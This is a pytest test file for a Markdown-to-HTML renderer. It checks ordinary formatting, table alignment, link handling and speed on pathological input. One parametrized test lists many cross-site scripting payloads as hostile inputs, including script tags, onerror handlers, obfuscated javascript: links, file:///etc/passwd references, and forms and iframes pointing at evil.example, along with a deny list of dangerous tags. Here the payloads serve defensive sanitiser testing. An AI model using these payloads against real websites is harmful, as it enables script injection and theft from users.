"""Markdown becomes HTML in which nothing can act, load or style."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from evidence_library.text.markdown_html import to_html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**bold** *it* `x<y`", "<p><strong>bold</strong> <em>it</em> <code>x&lt;y</code></p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        (
            "[a](https://b.c 'd')",
            '<p><a href="https://b.c" title="d" rel="noopener">a</a></p>',
        ),
        ("<mailto:a@b.c>", '<p><a href="mailto:a@b.c" rel="noopener">a@b.c</a></p>'),
        (
            "(see http://b.c/d_e_f).",
            '<p>(see <a href="http://b.c/d_e_f" rel="noopener">http://b.c/d_e_f</a>).</p>',
        ),
        ("`http://b.c`", "<p><code>http://b.c</code></p>"),
    ],
)
def test_ordinary_markdown_is_rendered(text: str, html: str) -> None:
    assert to_html(text) == html


def test_tables_are_rendered_with_their_alignment() -> None:
    html = to_html("|a|b|\n|-|-:|\n|1|2|")
    assert '<th align="right">b</th>' in html
    assert '<td align="right">2</td>' in html


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "![x](file:///etc/passwd)",
        "![x](http://evil.example/pixel.png)",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#10;script:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:x)",
        "[x](file:///etc/passwd)",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n\n[x]",
        '<a href="http://a.b" onclick="x()" style="position:fixed">a</a>',
        '<p style="background:url(http://evil.example)">a</p>',
        "<style>p{display:none}</style>",
        "<iframe src=http://evil.example></iframe>",
        "<object data=x></object><embed src=x><link rel=stylesheet href=x>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
        "<form action=http://evil.example><input><button>go</button></form>",
        "<meta http-equiv=refresh content='0;url=http://evil.example'>",
        "<base href=http://evil.example>",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "```html\n<script>alert(1)</script>\n```",
        '<p title="</p><script>alert(1)</script>">',
    ],
)
def test_nothing_active_is_left(hostile: str) -> None:
    html = to_html(f"before\n\n{hostile}\n\nafter")
    tags = set(re.findall(r"<\s*([a-z0-9]+)", html.casefold()))
    assert not tags & set("script style img iframe object embed link svg math form input".split())
    assert not tags & set("button meta base".split())
    assert not re.search(r"<[^>]*\b(?:on\w+|style|src)\s*=", html, re.IGNORECASE)
    assert set(re.findall(r'href="(\w+):', html)) <= {"http", "https", "ftp", "mailto"}
    assert "before" in html


@given(st.text())
def test_any_text_is_rendered(text: str) -> None:
    assert "<script" not in to_html(text)


@pytest.mark.parametrize("wild", ["[", "![", "<", "<a ", "[a](", "# a\n", "a\n==\n", "|a", "> "])
def test_wild_text_is_shown_at_once(wild: str) -> None:
    started = time.monotonic()
    assert to_html(wild * (190_000 // len(wild)))
    assert time.monotonic() - started < 10


def test_a_very_long_text_is_shown_as_plain_paragraphs() -> None:
    html = to_html("**a** <b\n\n" * 30_000)
    assert html.startswith("<p>**a** &lt;b</p>\n<p>")


@pytest.mark.parametrize(
    "address",
    ["javascript:alert(1)", "file:///etc/passwd", "data:text/html,x", "foo", "attachment:12", ""],
)
def test_what_leads_nowhere_on_the_web_is_plain_text(address: str) -> None:
    assert to_html(f"[the *words*]({address})") == "<p>the <em>words</em></p>"


@pytest.mark.parametrize("text", ["#1 priority", "#import x", "#hashtag"])
def test_a_number_sign_without_a_blank_begins_no_heading(text: str) -> None:
    assert to_html(text) == f"<p>{text}</p>"
    assert to_html(f"# {text}") == f"<h1>{text}</h1>"
